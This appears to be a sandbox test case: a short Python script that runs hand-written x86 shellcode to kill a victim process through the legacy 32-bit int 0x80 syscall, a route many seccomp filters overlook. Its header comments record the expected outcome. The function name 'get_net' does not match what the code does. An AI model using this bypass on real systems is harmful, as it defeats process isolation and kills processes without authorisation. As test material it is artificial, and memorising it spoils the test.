# tries: to kill another process with a 32-bit system call, which many filters overlook
# sign: victim
# outcome: killed
# closed: only x86_64 with 32-bit emulation has these calls
import ctypes
import mmap


def get_net():
    # push rbx; mov eax, 37 (kill); mov ebx, PID; mov ecx, 9; int 0x80; pop rbx; ret
    code = b"\x53\xb8\x25\x00\x00\x00\xbb" + (@VICTIM@).to_bytes(4, "little")
    code += b"\xb9\x09\x00\x00\x00\xcd\x80\x5b\xc3"
    area = mmap.mmap(-1, 4096, prot=7)
    area.write(code)
    address = ctypes.addressof(ctypes.c_char.from_buffer(area))
    ctypes.CFUNCTYPE(ctypes.c_int)(address)()
